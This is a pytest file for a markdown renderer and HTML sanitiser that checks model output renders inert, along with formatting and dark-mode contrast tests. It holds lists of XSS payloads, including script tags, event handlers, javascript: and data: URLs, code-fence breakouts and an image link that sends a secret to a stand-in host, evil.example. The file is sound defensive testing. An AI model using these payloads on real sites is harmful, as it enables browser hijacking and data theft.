import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conversations import markdown
from conversations.markdown import pygments_css, render_markdown

REL = 'rel="noopener noreferrer nofollow"'

# Things model output might contain to attack the reader's browser. Each must render inert.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/exfil?q=secret)",
    "![](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<iframe src="https://evil.example">',
    "<svg onload=alert(1)>",
    '<a href="https://x" onclick="alert(1)">x</a>',
    "<style>body{}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '[a](https://x "a\\" onmouseover=\\"alert(1)")',
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
]

DANGEROUS_TAGS = frozenset(
    {"script", "img", "iframe", "svg", "style", "math", "object", "embed", "form", "input"}
)
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
EVENT_HANDLER_RE = re.compile(r"\son\w+=", re.IGNORECASE)


class _Markup(HTMLParser):
    """Collects the elements of an HTML fragment as the browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    # Checked on the parsed markup, not the raw string: hostile input is meant to survive
    # as visible, escaped text ("&lt;img src=x onerror=...&gt;"), which is harmless, so a
    # substring search of the whole output would flag exactly the correct behaviour.
    parser = _Markup()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in DANGEROUS_TAGS, html
        # The attribute names alone, as they would appear in the tag.
        names = "".join(f" {name}=" for name, _value in attrs)
        assert not EVENT_HANDLER_RE.search(names), html
        assert "style" not in dict(attrs), html
        if tag == "a":
            assert dict(attrs).get("rel") == "noopener noreferrer nofollow", html
        for name, value in attrs:
            if name in {"href", "src"}:
                # Browsers ignore leading whitespace and control characters in URLs.
                url = "".join(ch for ch in value or "" if ch > " ").lower()
                assert not url.startswith(DANGEROUS_SCHEMES), html
    # And as a string: text keeps its "<" escaped, so a dangerous tag cannot hide in it.
    assert not re.search(r"<(script|img|iframe|svg|style|math)\b", html, re.IGNORECASE), html


@pytest.mark.parametrize(
    "html",
    [
        "<p><img src=x></p>",
        "<SCRIPT>x</SCRIPT>",
        '<a href="https://x" rel="noopener noreferrer nofollow" onclick="x">x</a>',
        '<a href=" java&#x73;cript:x" rel="noopener noreferrer nofollow">x</a>',
        '<a href="DATA:text/html,x" rel="noopener noreferrer nofollow">x</a>',
        '<a href="https://x">no rel</a>',
        '<p style="x">x</p>',
    ],
)
def test_the_inertness_check_itself_catches_live_markup(html: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(html)


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_it_renders_hostile_input_inert(source: str) -> None:
    assert_inert(render_markdown(source))


def test_it_renders_headings() -> None:
    assert render_markdown("# One\n\n### Three") == "<h1>One</h1>\n<h3>Three</h3>\n"


def test_it_renders_lists() -> None:
    html = render_markdown("- a\n- b\n\n3. c\n4. d")
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in html
    assert '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>' in html


def test_it_renders_emphasis() -> None:
    assert render_markdown("*em* **strong**") == "<p><em>em</em> <strong>strong</strong></p>\n"


def test_it_renders_strikethrough() -> None:
    assert render_markdown("~~gone~~") == "<p><s>gone</s></p>\n"


def test_it_renders_inline_code_escaped() -> None:
    assert render_markdown("`<b>`") == "<p><code>&lt;b&gt;</code></p>\n"


def test_single_newlines_are_line_breaks() -> None:
    assert render_markdown("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_it_renders_tables_without_alignment_styles() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert "<table>" in html
    assert "<th>a</th>" in html
    assert "<td>2</td>" in html
    # markdown-it writes alignment as an inline style, which the CSP would block anyway.
    assert "style=" not in html


def test_it_highlights_fenced_code_in_a_known_language_with_classes() -> None:
    html = render_markdown("```python\ndef f():\n    return '<b>'\n```")
    assert html.startswith('<pre class="highlight"><code class="language-python">')
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">f</span>' in html
    assert "&lt;b&gt;" in html
    assert "<b>" not in html
    assert "style=" not in html


def test_it_looks_up_languages_by_alias_case_insensitively() -> None:
    html = render_markdown("```PY\nx = 1\n```")
    assert '<code class="language-python">' in html
    assert '<span class="n">x</span>' in html


def test_it_leaves_an_unknown_language_as_plain_escaped_code() -> None:
    html = render_markdown("```no-such-language\nif <b> & x\n```")
    assert html == '<pre class="highlight"><code>if &lt;b&gt; &amp; x\n</code></pre>\n'


def test_it_does_not_guess_the_language_of_unlabelled_code() -> None:
    html = render_markdown("```\ndef f():\n    pass\n```")
    assert html == '<pre class="highlight"><code>def f():\n    pass\n</code></pre>\n'


def test_it_keeps_a_closing_tag_in_code_as_text_inside_the_block() -> None:
    html = render_markdown("```\n</code></pre><script>alert(1)</script>\n```")
    assert html == (
        '<pre class="highlight"><code>'
        "&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n"
        "</code></pre>\n"
    )


def test_it_shows_raw_html_as_text() -> None:
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_links_carry_rel_noopener_noreferrer_nofollow() -> None:
    html = render_markdown("[site](https://example.com) <https://example.org>")
    assert f'<a href="https://example.com" {REL}>site</a>' in html
    assert f'<a href="https://example.org" {REL}>https://example.org</a>' in html


def test_relative_and_mailto_links_are_kept() -> None:
    assert f'<a href="/usage/" {REL}>u</a>' in render_markdown("[u](/usage/)")
    assert f'<a href="mailto:a@example.com" {REL}>m</a>' in render_markdown(
        "[m](mailto:a@example.com)"
    )


def test_javascript_links_are_not_links() -> None:
    for source in ("[x](javascript:alert(1))", "[x](java&#x73;cript:alert(1))"):
        assert "<a" not in render_markdown(source)


def test_link_titles_cannot_break_out_of_the_attribute() -> None:
    html = render_markdown('[a](https://x "a\\" onmouseover=\\"alert(1)")')
    assert f'<a href="https://x" title="a&quot; onmouseover=&quot;alert(1)" {REL}>a</a>' in html


def test_an_image_becomes_a_link_labelled_with_its_alt_text() -> None:
    html = render_markdown("![x](https://evil.example/exfil?q=secret)")
    assert html == f'<p><a href="https://evil.example/exfil?q=secret" {REL}>x</a></p>\n'


def test_an_image_without_alt_text_is_labelled_with_its_url() -> None:
    html = render_markdown("![](https://example.com/a.png)")
    assert html == (
        f'<p><a href="https://example.com/a.png" {REL}>https://example.com/a.png</a></p>\n'
    )


def test_an_image_alt_text_loses_its_markup_and_stays_escaped() -> None:
    html = render_markdown('![*big* <b>](https://example.com/a.png "t")')
    assert html == (
        f'<p><a href="https://example.com/a.png" title="t" {REL}>big &lt;b&gt;</a></p>\n'
    )


def test_an_image_with_a_data_url_becomes_plain_text() -> None:
    assert render_markdown("![pic](data:image/png;base64,iVBORw0KGgo=)") == "<p>pic</p>\n"


def test_an_image_inside_a_link_becomes_the_link_label() -> None:
    html = render_markdown("[![build](https://ci.example/badge.svg)](https://ci.example)")
    assert html == f'<p><a href="https://ci.example" {REL}>build</a></p>\n'


def test_pygments_css_is_scoped_to_highlight_and_covers_the_token_classes() -> None:
    css = pygments_css()
    assert ".highlight .k {" in css
    assert ".highlight .nf {" in css
    rules = [
        line.strip()
        for line in css.splitlines()
        if line.strip() not in ("", "}", "@media (prefers-color-scheme: dark) {")
    ]
    assert all(line.startswith(".highlight") for line in rules), css


RAW_HTML_CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x73;cript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    "<svg onload=alert(1)></svg>",
    '<a href="https://x" onclick="alert(1)" rel="opener" target="_self">x</a>',
    "<style>body{}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="color:red" class="admin">x</p>',
    '<span class="k evil">x</span><code class="language-python x">y</code>',
    "<object data=x></object><embed src=x><form><input></form>",
]


@pytest.mark.parametrize("raw", RAW_HTML_CORPUS)
def test_the_sanitiser_alone_neutralises_raw_html(raw: str) -> None:
    # The renderer never emits these (raw HTML is off), so this checks the last line of
    # defence on its own, in case a renderer change ever lets something through.
    html = markdown._CLEANER.clean(raw)
    assert_inert(html)
    for tag in ("<iframe", "<object", "<embed", "<form", "<input"):
        assert tag not in html.lower()
    assert "evil" not in html
    assert 'class="admin"' not in html
    assert "opener" not in html.replace("noopener", "")
    assert "target=" not in html


def test_the_sanitiser_keeps_the_highlighting_classes() -> None:
    raw = '<pre class="highlight"><code class="language-python"><span class="k">x</span>'
    assert markdown._CLEANER.clean(raw) == raw + "</code></pre>"


SITE_CSS = (Path(__file__).resolve().parents[2] / "static" / "css" / "site.css").read_text()


def _luminance(hex_colour: str) -> float:
    h = hex_colour.lstrip("#")
    if len(h) == 3:
        h = "".join(c * 2 for c in h)
    channels = [int(h[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    r, g, b = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def _contrast(a: str, b: str) -> float:
    hi, lo = sorted([_luminance(a), _luminance(b)], reverse=True)
    return (hi + 0.05) / (lo + 0.05)


def test_code_stays_readable_in_dark_mode() -> None:
    """In dark mode every token has a colour of the dark theme, readable on its
    background (WCAG AA for text, 4.5:1), not the light theme's dark blue on black."""
    css = pygments_css()
    light, _, dark = css.partition("@media (prefers-color-scheme: dark) {")
    assert dark, "no dark-mode rules"

    def colours(block: str) -> dict[str, str]:
        found = {}
        for selector, body in re.findall(r"^\s*(\.highlight[^{]*?)\s*\{([^}]*)\}", block, re.M):
            colour = re.search(r"(?<![-\w])color:\s*(#[0-9A-Fa-f]{3,6})", body)
            if colour:
                found[selector] = colour.group(1)
        return found

    background = re.search(r"\.highlight \{ background: (#[0-9A-Fa-f]{6})", dark)
    assert background is not None
    base = colours(dark).get(".highlight", "#E6EDF3")
    dark_colours = colours(dark)
    # Code blocks sit on the theme's background or the site's own dark one (site.css).
    site_dark = re.search(r"--bg: (#[0-9a-f]{6});", SITE_CSS.split("prefers-color-scheme: dark")[1])
    assert site_dark is not None
    for selector in colours(light):
        if selector == ".highlight .w":  # whitespace: nothing to read
            continue
        shown = dark_colours.get(selector, base)
        for behind in (background.group(1), site_dark.group(1)):
            assert _contrast(shown, behind) >= 4.5, (selector, shown, behind)
